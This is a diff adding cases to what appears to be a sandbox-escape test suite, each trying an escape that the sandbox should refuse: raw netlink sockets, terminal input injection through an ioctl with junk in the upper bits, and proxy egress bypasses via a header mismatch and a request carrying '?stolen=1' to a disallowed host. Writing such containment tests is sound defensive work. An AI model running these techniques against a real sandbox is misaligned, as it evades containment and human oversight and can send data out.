@@ -438,6 +438,52 @@ except OSError: pass
 """,
     ),
     Escape(
+        "netfilter by netlink",
+        "refused socket",
+        """
+for protocol in (9, 12, 15, 16, 21):
+    try:
+        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); escaped(protocol)
+    except OSError: pass
+socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+""",
+    ),
+    Escape(
+        "input to a terminal, with rubbish in the upper half of the request",
+        "refused ioctl",
+        """
+import pty
+leader, follower = pty.openpty()
+for request in (0x100005412, 0xFFFFFFFF00005412, 0x10000541C):
+    if call(16, 29, follower, ctypes.c_ulong(request), b"x") == 0: escaped(request)
+""",
+    ),
+    Escape(
+        "a host that is not allowed, by a relay inside",
+        "egress host",
+        """
+import threading
+listener = socket.create_server(('127.0.0.1', 0))
+def relay():
+    near, _ = listener.accept()
+    far = socket.create_connection(('127.0.0.1', 3128))
+    far.sendall(near.recv(65536))
+    near.sendall(far.recv(65536))
+    near.close()
+threading.Thread(target=relay, daemon=True).start()
+s = socket.create_connection(listener.getsockname())
+s.sendall(b'CONNECT example.org:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')
+if b' 200 ' in s.recv(65536)[:20]: escaped()
+""",
+    ),
+    Escape(
+        "a host that is not allowed, by plain HTTP",
+        "egress host",
+        """
+if b' 200 ' in proxied(b'GET http://example.org/?stolen=1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')[:20]: escaped()
+""",
+    ),
+    Escape(
         "an interface of the network",
         "error",
         """
